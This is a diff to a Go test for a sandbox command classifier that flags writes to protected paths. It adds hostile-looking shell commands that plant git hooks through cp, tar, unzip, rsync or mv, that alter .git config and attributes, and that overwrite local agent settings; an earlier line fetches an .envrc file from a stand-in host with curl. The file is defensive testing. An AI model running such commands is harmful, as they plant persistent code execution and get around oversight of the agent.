@@ -205,6 +205,24 @@ func TestProtectedPaths(t *testing.T) {
 		"rm -rf .git/hooks",
 		"echo x > agentbox.yaml",
 		"curl -o .envrc https://x.example/e",
+		// Relative to the cd directory, tar -C, unzip -d; parents filled
+		// wholesale; submodule hooks, attributes, local agent settings.
+		"cd .git/hooks && cp /tmp/evil pre-commit",
+		"cd .git && echo x > hooks/pre-commit",
+		"cd .git && mv /tmp/x .",
+		"tar xf evil.tar -C .git/hooks",
+		"tar -C .git -xf evil.tar",
+		"cd .git && tar xf /tmp/evil.tar",
+		"unzip evil.zip -d .git/hooks",
+		"unzip -o evil.zip -d .git",
+		"cp -r /tmp/hooks .git/",
+		"cp -a /tmp/hooks .git",
+		"rsync -a /tmp/evil/ .git/",
+		"mv /tmp/evilgit .git",
+		"cp evil .git/modules/x/hooks/pre-commit",
+		"cp evil .git/modules/a/b/config",
+		"echo x > .git/info/attributes",
+		"echo x > .claude/settings.local.json",
 	}
 	for _, cmd := range escalate {
 		if got := c.Classify(cmd); got.Decision < Escalated {
@@ -214,10 +232,21 @@ func TestProtectedPaths(t *testing.T) {
 	if got := c.Classify("echo x > .git/hooks/pre-push"); got.Rule != RuleProtectedPathWrite {
 		t.Errorf("rule = %q", got.Rule)
 	}
-	fine := []string{"cat .git/config", "echo x > src/main.go", "cp a b", "ls .github/workflows", "git status", "echo x > .github/README.md", "cat ~/.bashrc"}
+	fine := []string{"cat .git/config", "echo x > src/main.go", "cp a b", "ls .github/workflows", "git status", "echo x > .github/README.md", "cat ~/.bashrc",
+		"cd src && cat main.go", "cp x .", "cp -r a ./", "cd .git && cat HEAD", "cp x .git/info/exclude.bak", "echo x >> .git/info/exclude",
+		"tar xf x.tar -C build", "unzip x.zip -d out", "tar -C build -czf out.tgz .", "cd docs && cp -r a b", "cp .git/hooks/pre-commit.sample /tmp/x",
+		"mv .gitignore.new .gitignore", "cp evil .GIT.bak/hooks"}
 	for _, cmd := range fine {
 		if got := c.Classify(cmd); got.Decision > Sandboxed {
 			t.Errorf("Classify(%q) = %v/%s, want at most sandboxed", cmd, got.Decision, got.Rule)
+		}
+	}
+	// Case is folded where the file system folds it (macOS, Windows) only.
+	for _, fold := range []bool{false, true} {
+		c.foldCase = fold
+		got := c.Classify("cp evil .GIT/hooks/pre-commit")
+		if want := fold; (got.Rule == RuleProtectedPathWrite) != want {
+			t.Errorf("foldCase=%v: Classify(.GIT/hooks) = %v/%s", fold, got.Decision, got.Rule)
 		}
 	}
 	// Without the option, the rule is off.
